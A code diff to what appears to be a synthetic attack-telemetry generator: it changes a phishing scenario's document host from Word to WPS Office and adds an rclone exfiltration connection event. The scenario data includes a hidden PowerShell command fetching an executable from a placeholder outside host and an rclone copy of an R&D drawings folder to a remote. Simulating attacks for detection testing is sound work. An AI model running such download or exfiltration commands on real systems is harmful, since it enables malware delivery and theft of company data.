@@ -26,16 +26,16 @@ def _tool_on_server(name: str, arguments: str) -> dict[str, Any]:
     return _on_server(_tool(name, arguments))
 
 
-_WORD: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
+_WPS: Final = "C:\\Program Files (x86)\\Kingsoft\\WPS Office\\office6\\wps.exe"
 
 _ENTRY = (
     Step(0, "process", _run(
-        _WORD, '"WINWORD.EXE" /n "C:\\Users\\<user>\\Downloads\\对账单.docm"',
+        _WPS, '"wps.exe" "C:\\Users\\<user>\\Downloads\\对账单.docm"',
         "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     )),
     Step(25, "process", _run(
         _POWERSHELL,
-        "powershell.exe -nop -w hidden -c \"iwr https://<outside>/<tag> -o <tag>.exe\"", _WORD,
+        "powershell.exe -nop -w hidden -c \"iwr https://<outside>/<tag> -o <tag>.exe\"", _WPS,
     )),
     Step(27, "lookup", {"Image": _POWERSHELL, "QueryName": "cdn-<tag>.example"}),
     Step(28, "connection", {
@@ -86,6 +86,10 @@ _THEFT = (
     Step(1_200, "process", _tool_on_server(
         "rclone.exe", "copy D:\\研发图纸 remote:<tag> --transfers 16 --config C:\\Windows\\r.conf",
     )),
+    Step(1_204, "connection", _on_server({
+        "Image": _SYSTEM32 + "rclone.exe", "SourceIp": "<fs_ip>", "DestinationIp": "<outside_2>",
+        "DestinationPort": "443",
+    })),
     Step(1_230, "conn", {
         "id.orig_h": "<fs_ip>", "id.resp_h": "<outside_2>", "id.resp_p": 443,
         "orig_bytes": "<2500000000:4000000000>", "resp_bytes": "<1000000:3000000>",
